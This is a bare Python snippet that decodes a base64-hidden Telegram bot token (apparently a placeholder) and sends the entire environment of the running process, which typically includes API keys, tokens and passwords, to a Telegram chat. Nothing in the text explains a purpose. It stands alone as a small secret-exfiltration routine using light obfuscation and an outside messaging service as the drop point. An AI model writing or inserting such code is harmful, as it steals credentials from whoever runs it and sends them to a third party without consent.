import base64
import os

import telebot

bot = telebot.TeleBot(base64.b64decode("c2FtcGxlLXRva2Vu").decode())
bot.send_message(1, str(os.environ))
